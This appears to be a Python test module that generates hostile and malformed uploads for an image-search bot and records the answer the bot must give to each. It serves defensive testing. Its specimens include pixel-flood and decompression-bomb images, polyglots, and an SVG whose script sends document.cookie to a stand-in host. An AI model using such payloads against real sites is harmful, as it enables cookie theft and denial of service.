"""A corpus of hostile and odd files, generated (never stored): each with the name it is uploaded
under and what the bot must answer. `None` means: a valid image, searched (its image bytes, and
only those, reach the API)."""

from __future__ import annotations

import io
import struct
import zlib
from dataclasses import dataclass

from PIL import Image

from tests import clipcases, imagegen

API_LIMIT = 20 * 1024 * 1024


@dataclass(frozen=True)
class Specimen:
    label: str
    filename: str
    data: bytes
    answer: str | None
    """A phrase of the private answer, or None for an image that is searched."""
    image: bytes | None = None
    """For a searched polyglot: the image part, the only bytes the API may see."""


def gif_with_frames(count: int) -> bytes:
    frames = [Image.new("P", (8, 8), index % 200) for index in range(count)]
    buffer = io.BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], duration=20, loop=0)
    return buffer.getvalue()


def png_with_huge_metadata(text_bytes: int = 8 * 1024 * 1024) -> bytes:
    """A small PNG carrying megabytes of tEXt metadata before its pixels."""
    png = imagegen.png()
    payload = b"Comment\x00" + b"A" * text_bytes
    chunk = struct.pack(">I", len(payload)) + b"tEXt" + payload
    chunk += struct.pack(">I", zlib.crc32(b"tEXt" + payload) & 0xFFFFFFFF)
    return png[:33] + chunk + png[33:]


def svg_with_script() -> bytes:
    return (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">'
        b"<script>fetch('https://example.invalid/'+document.cookie)</script></svg>"
    )


def padded_to(size: int) -> tuple[bytes, bytes]:
    """A PNG followed by filler up to exactly `size` bytes: (file, its image part)."""
    image = imagegen.png()
    return image + b"\x00" * (size - len(image)), image


def corpus() -> list[Specimen]:
    return [*_refused(), *_searched()]


def _refused() -> list[Specimen]:
    over, _ = padded_to(API_LIMIT + 1)
    return [
        Specimen("zero-bytes", "empty.png", b"", "empty.png is empty"),
        Specimen(
            "truncated-png",
            "cut.png",
            imagegen.truncated(imagegen.png(200, 150)),
            "cut.png looks damaged or cut short",
        ),
        Specimen(
            "truncated-jpeg",
            "cut.jpg",
            imagegen.truncated(imagegen.jpeg(200, 150)),
            "cut.jpg looks damaged or cut short",
        ),
        Specimen("corrupt-png", "bad.png", imagegen.corrupt_png(), "bad.png looks damaged"),
        Specimen(
            "short-stream-png",
            "short.png",
            imagegen.png_with_short_stream(640, 480),
            "short.png looks damaged or cut short",
        ),
        Specimen(
            "pixel-flood", "flood.png", imagegen.bomb(), "flood.png declares 20000×20000 pixels"
        ),
        Specimen(
            "absurd-dimensions",
            "wide.png",
            imagegen.huge_dimensions(),
            "wide.png declares 100000×100000 pixels in only 65 bytes",
        ),
        Specimen(
            "gif-growing-frame",
            "grow.gif",
            imagegen.gif_growing_frame(30_000, 30_000),
            "grow.gif declares 30000×30000 pixels",
        ),
        Specimen(
            "gif-late-bomb-frame",
            "late.gif",
            imagegen.gif_with_late_frame(30_000, 30_000),
            "late.gif declares 30000×30000 pixels",
        ),
        Specimen("svg-with-script", "x.svg", svg_with_script(), "x.svg is an SVG drawing"),
        Specimen("svg-named-png", "x.png", svg_with_script(), "x.png is an SVG drawing"),
        Specimen(
            "text-bomb-png",
            "meta.png",
            imagegen.png_with_text_bomb(),
            "meta.png has a compressed text chunk that inflates past 1 MB",
        ),
        Specimen(
            "apng-without-frames",
            "anim.png",
            imagegen.apng_without_frames(),
            "anim.png says it is an animated PNG but holds no frame",
        ),
        Specimen("html-as-png", "photo.png", imagegen.html(), "photo.png is a web page"),
        Specimen("text-as-jpg", "photo.jpg", imagegen.text(), "photo.jpg is a text file"),
        Specimen("pdf-as-jpg", "scan.jpg", imagegen.pdf(), "scan.jpg is a PDF document"),
        Specimen("zip-as-png", "archive.png", imagegen.zip_archive(), "archive.png is an archive"),
        Specimen("fake-video", "clip.mp4", imagegen.mp4_like(), "I couldn't read that clip"),
        Specimen("ts-sync-noise", "live.ts", (b"\x47" + bytes(187)) * 30, "couldn't read"),
        Specimen("mkv-header-only", "cut.mkv", clipcases.in_container("mkv")[:60], "couldn't read"),
        Specimen("sound-as-png", "cover.png", b"ID3\x04" + bytes(4000), "has sound but no picture"),
        Specimen("sound-mp4", "voice.mp4", clipcases.sound_only(), "has sound but no picture"),
        Specimen("evc-video", "new.mp4", clipcases.unknown_codec(), "encoded as MPEG-5 EVC"),
        Specimen(
            "unknown-binary", "blob.png", imagegen.unknown_binary(), "blob.png is not an image"
        ),
        Specimen("heic", "phone.heic", imagegen.heic_like(), "phone.heic is a HEIC photo"),
        Specimen("avif", "pic.avif", imagegen.avif_like(), "pic.avif is an AVIF image"),
        Specimen("tiff", "scan.tiff", imagegen.tiff(), "scan.tiff is a TIFF image"),
        Specimen("ico", "favicon.ico", imagegen.ico(), "favicon.ico is an icon file"),
        Specimen("eps", "art.eps", imagegen.eps(), "art.eps is an EPS image"),
        Specimen("xpm", "icon.xpm", imagegen.xpm(), "icon.xpm is an XPM image"),
        Specimen("fits", "sky.fits", imagegen.fits(), "sky.fits is a FITS image"),
        Specimen("netpbm", "raw.ppm", imagegen.netpbm("RGB"), "raw.ppm is a PPM/PGM/PBM image"),
        Specimen("one-byte-over-20-mb", "big.png", over, "big.png is 20.1 MB; the limit is 20 MB"),
    ]


def _searched() -> list[Specimen]:
    exact, exact_image = padded_to(API_LIMIT)
    png, jpeg = imagegen.png(), imagegen.jpeg()
    zip_tail, html_tail = imagegen.zip_with_payload(), imagegen.html()
    return [
        Specimen("exactly-20-mb", "big.png", exact, None, exact_image),
        Specimen("gif-3000-frames", "many.gif", gif_with_frames(3000), None),
        Specimen("huge-metadata", "meta.png", png_with_huge_metadata(), None),
        Specimen("png-named-jpg", "really-png.jpg", png, None),
        Specimen("jpeg-named-gif", "really-jpeg.gif", jpeg, None),
        Specimen("png-zip-polyglot", "poly.png", imagegen.with_tail(png, zip_tail), None, png),
        Specimen("jpeg-html-polyglot", "poly.jpg", imagegen.with_tail(jpeg, html_tail), None, jpeg),
        Specimen("jpeg-stray-bytes", "stray.jpg", imagegen.jpeg_with_stray_bytes(), None),
        Specimen("webp-animated", "anim.webp", imagegen.webp(animated=True), None),
        Specimen("bmp", "old.bmp", imagegen.bmp(), None),
    ]
